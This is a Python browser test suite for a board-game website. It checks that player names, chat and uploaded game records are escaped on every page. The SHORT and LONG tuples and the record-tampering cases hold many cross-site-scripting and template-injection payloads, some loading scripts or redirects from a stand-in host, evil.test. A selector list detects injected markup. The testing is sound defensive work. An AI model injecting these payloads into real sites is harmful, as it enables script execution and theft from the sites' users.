"""No name, no talk and no record from elsewhere becomes markup: what is known to break pages is
shown as the text that it is, on every kind of page. No script of it runs, and the content security
policy has nothing to report."""

import json
from collections.abc import Sequence
from pathlib import Path

import pytest
from playwright.sync_api import FilePayload, Page

from ludotheque.core import BadOption, Player
from ludotheque.games import GAMES
from ludotheque.web.errors import RequestRefused
from tests.browser.deal_page_kinds import check
from tests.browser.frozen_server import FrozenServer
from tests.browser.page_kinds import LAST
from tests.plugins.announced import published_games
from tests.services.chromium import Visitors

pytestmark = pytest.mark.slow

RECORDS = Path(__file__).parent.parent / "records"

SHORT = (
    "<script>alert(1)</script>",
    "<script src=//evil.test></script>",
    "</script><script>alert(1)</script>",
    "<img src=x onerror=alert(1) class=made>",
    "<img src=x onerror='made=1' data-made>",
    "<svg onload=alert(1) class=made>",
    "<svg><script>alert(1)</script></svg>",
    "<a href=javascript:alert(1)>x</a>",
    "<made-up>x</made-up>",
    "<iframe src=javascript:alert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<style>*{display:none}</style>",
    "<base href=//evil.test/>",
    '" onmouseover=alert(1) data-made="',
    "' onmouseover=alert(1) data-made='",
    '"><b class=made>x</b>',
    "'><b class=made>x</b>",
    "--><b class=made>x</b>",
    "]]><b class=made>x</b>",
    "</title><b class=made>x</b>",
    "</textarea><b class=made>x</b>",
    "&lt;b class=made&gt;x",
    "&#60;b class=made&#62;x",
    "{{ 7*7 }}{% raw %}",
    "{{ config.__class__ }}",
    "${alert(1)} `x` \\u003cb\\u003e",
    '{ $seat } { "made" } { -brand }',
    "javascript:alert(1)//",
    "[x](javascript:alert(1))",
    "שלום <b class=made>عليكم</b>",
)
"""Short enough for a name."""
LONG = (
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 '
    'onerror=alert(1) class=made&gt;">',
    "<form action=/tables method=post data-made><button>x</button></form>",
    "<meta http-equiv=refresh content='0;url=//evil.test' data-made>",
    "<object data=data:text/html,<script>alert(1)</script> class=made></object>",
    "<template><script>alert(1)</script></template><link rel=stylesheet href=//evil.test/made>",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )//</stYle/</titLe/--!>"
    "<sVg/oNloAd=alert(1)//>",
)
"""For talk."""
REORDERING = ("Ada\u202eadA", "\u2066x\u2069", "a\u200bb", "a\x00b", "a\nb")
"""Invisible, or able to turn the text around it: neither a name nor talk may hold them."""

MADE = (
    "[data-made], .made, made-up, a[href^='javascript:' i], iframe, object, embed, base, math,"
    "meta[http-equiv=refresh], script[src*='evil'], link[href*='evil'],"
    "[onerror], [onload], [onmouseover], [onfocus], [ontoggle], [onclick]"
)
LISTEN = """addEventListener("securitypolicyviolation", event => {
  (window.violations ??= []).push(`${event.violatedDirective}: ${event.blockedURI}`);
});"""


class Victim:
    """Somebody at a page on which something may be tried, and what came of it."""

    def __init__(self, browser: Visitors, lang: str = "en") -> None:
        self.page = browser.new_page(lang=lang, reduced_motion=True)
        self.page.add_init_script(LISTEN)
        self._dialogs: list[str] = []
        self.page.on("dialog", self._note)

    def _note(self, dialog: object) -> None:
        self._dialogs.append(repr(dialog))
        dialog.dismiss()  # type: ignore[attr-defined]  # Playwright's dialog

    def sees(self, *texts: str) -> None:
        """Each of these texts is there as it is, and nothing came of it."""
        shown = "\n".join(
            [
                self.page.evaluate("document.title"),
                self.page.evaluate("document.body.textContent"),
            ]
        )
        for text in texts:
            assert " ".join(text.split()) in " ".join(shown.split())
        self.is_unharmed()

    def is_unharmed(self) -> None:
        page = self.page
        made = "selector => [...document.querySelectorAll(selector)].map(e => e.outerHTML)"
        assert page.evaluate(made, MADE) == []
        assert page.evaluate("window.violations ?? []") == []
        assert page.evaluate("typeof window.made") == "undefined"
        assert self._dialogs == []
        assert "49{%" not in page.content()


def chunk(size: int, start: int) -> list[str]:
    """So many payloads, from this one on; after the last comes the first."""
    return [SHORT[(start + at) % len(SHORT)] for at in range(size)]


def log_unfolded(page: Page) -> None:
    for summary in page.locator("main summary").all():
        if summary.is_visible():
            summary.click()


@pytest.mark.parametrize("start", range(0, len(SHORT), 6))
def test_names_in_the_lobby(browser: Visitors, frozen: FrozenServer, start: int) -> None:
    names = chunk(6, start)
    place = frozen.table(*names, begin=False, game="sans-foi-ni-loi")
    victim = Victim(browser, "fr")
    place.open(victim.page, names[0])
    victim.sees(*names)


@pytest.mark.parametrize(("number", "game"), list(enumerate([*published_games(), "pebbles"])))
def test_names_and_talk_at_every_stage(
    browser: Visitors, frozen: FrozenServer, number: int, game: str
) -> None:
    found = GAMES[game]
    names = chunk(max(found.players), 6 * number)
    place = frozen.table(*names, moves=8, game=game)
    frozen.say(place, 0, SHORT[number])
    victim, watcher = Victim(browser), Victim(browser, "fr")
    place.open(victim.page, names[0])
    place.open(watcher.page)
    frozen.say(place, 1, SHORT[number + 10])  # this one comes through the open stream
    victim.page.wait_for_selector("#talk li + li")
    watcher.page.wait_for_selector("#talk li + li")
    log_unfolded(victim.page)
    victim.sees(*names, SHORT[number], SHORT[number + 10])
    watcher.sees(*names, SHORT[number], SHORT[number + 10])


def test_talk(browser: Visitors, frozen: FrozenServer) -> None:
    place = frozen.table("Ada", "Blaise", moves=4)
    sayings = [*SHORT, *LONG]
    victim = Victim(browser)
    place.open(victim.page, "Ada")
    for text in sayings:
        frozen.say(place, 1, text)
    victim.page.wait_for_function(
        "count => document.querySelectorAll('#talk li').length >= count", arg=len(sayings)
    )
    victim.sees(*sayings)
    victim.page.reload()
    victim.sees(*sayings[-20:])


@pytest.mark.parametrize("start", [0, 8, 16, 24])
def test_names_behind_the_curtain_at_the_end_and_in_the_replay(
    browser: Visitors, frozen: FrozenServer, start: int
) -> None:
    names = chunk(2, start)
    victim = Victim(browser)
    page = victim.page
    frozen.table(*names, moves=8, one_screen=True).open(page, names[0])
    page.wait_for_selector(".curtain")
    victim.is_unharmed()
    page.locator(".curtain button").first.click()
    page.wait_for_selector(".hand")
    victim.sees(names[0])
    names = chunk(2, start + 2)
    place = frozen.table(*names, moves=LAST)
    place.open(page)
    page.wait_for_selector(".account")
    victim.sees(*names)
    page.goto(f"{place.url}/replay?line=20&eyes=0")
    page.wait_for_selector("html.scripted #replay")
    log_unfolded(page)
    victim.sees(*names)


@pytest.mark.parametrize("start", [0, 9, 18])
def test_names_where_a_deal_is_checked(browser: Visitors, frozen: FrozenServer, start: int) -> None:
    names = chunk(2, start)
    place = frozen.table(*names, deal=None)
    victim = Victim(browser)
    victim.page.goto(f"{place.url}/deal")
    victim.is_unharmed()
    frozen.resign(place)
    check(victim.page, place)
    log_unfolded(victim.page)
    victim.sees(*names)


def test_names_on_the_pages_around_a_table(browser: Visitors, frozen: FrozenServer) -> None:
    names = chunk(2, 3)
    place = frozen.table(*names)
    victim, other = Victim(browser), Victim(browser, "fr")
    place.open(victim.page, names[0])
    victim.page.goto(frozen.url)
    victim.page.wait_for_selector("#recent .game-row")
    victim.is_unharmed()
    other.page.goto(frozen.pass_on(place, names[0]))
    other.is_unharmed()


def test_names_that_are_typed(browser: Visitors, frozen: FrozenServer) -> None:
    victim = Victim(browser)
    page = victim.page
    for start in (4, 15, 21):
        page.goto(f"{frozen.url}/play/district-noir/screen")
        for field, name in zip(page.get_by_role("textbox").all(), chunk(2, start), strict=False):
            field.fill(name)
        page.locator("main form button.main").click()
        page.wait_for_selector(".curtain")
        victim.is_unharmed()


def with_names(record: Path, names: Sequence[str], to: Path) -> Path:
    """The record with other names, of people and of those who take over."""
    lines = []
    for number, line in enumerate(record.read_text("utf-8").splitlines()):
        content = json.loads(line)
        if number == 0:
            content["seats"] = [
                {**seat, "name": name} for seat, name in zip(content["seats"], names, strict=False)
            ]
        elif "player" in content:
            content["player"]["name"] = names[-1]
        lines.append(json.dumps(content))
    to.write_text("\n".join([*lines, ""]), "utf-8")
    return to


@pytest.mark.parametrize(("number", "game"), list(enumerate(published_games())))
def test_names_in_records_from_elsewhere(
    browser: Visitors, frozen: FrozenServer, tmp_path: Path, number: int, game: str
) -> None:
    names = chunk(4, 7 * number)
    record = with_names(RECORDS / f"{game}-0.1.jsonl", names, tmp_path / "made.jsonl")
    place = frozen.bring(record)
    seats = len(json.loads(record.read_text("utf-8").splitlines()[0])["seats"])
    victim = Victim(browser)
    page = victim.page
    for line in (0, 14):
        page.goto(f"{place.url}/replay?line={line}&eyes=all")
        page.wait_for_selector("html.scripted #replay")
        log_unfolded(page)
        if line == 0:  # later somebody may have taken over
            victim.sees(*names[:seats])
        victim.is_unharmed()
    place.open(page)
    victim.is_unharmed()


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ('"game": "district-noir"', '"game": "<img src=x onerror=alert(1) class=made>"'),
        ('"move": "play police-station"', '"move": "<svg onload=alert(1) class=made>"'),
        ('"by": "person"', '"by": "</p><script>alert(1)</script><b class=made>x</b>"'),
        ('"options": {}', '"options": {"<b class=made>x</b>": "{{ 7*7 }}{% raw %}"}'),
    ],
)
def test_what_is_wrong_with_a_record_is_quoted(
    browser: Visitors, frozen: FrozenServer, old: str, new: str
) -> None:
    browser.expect_trouble("422")
    text = (RECORDS / "district-noir-0.1.jsonl").read_text("utf-8")
    assert old in text
    victim = Victim(browser)
    victim.page.goto(f"{frozen.url}/records")
    changed = text.replace(old, new, 1).encode()
    name = "<img src=x onerror=alert(1) class=made>.jsonl"
    upload = FilePayload(name=name, mimeType="text/plain", buffer=changed)
    victim.page.locator("input[type=file]").set_input_files(upload)
    victim.page.locator("main button").click()
    victim.page.wait_for_selector(".problem")
    victim.is_unharmed()


def test_what_could_reorder_or_hide_text_is_refused(frozen: FrozenServer) -> None:
    place = frozen.table("Ada", "Blaise")
    for text in REORDERING:
        with pytest.raises(BadOption):
            Player(text)
        if " ".join(text.split()) == text:
            with pytest.raises(RequestRefused):
                frozen.say(place, 0, text)
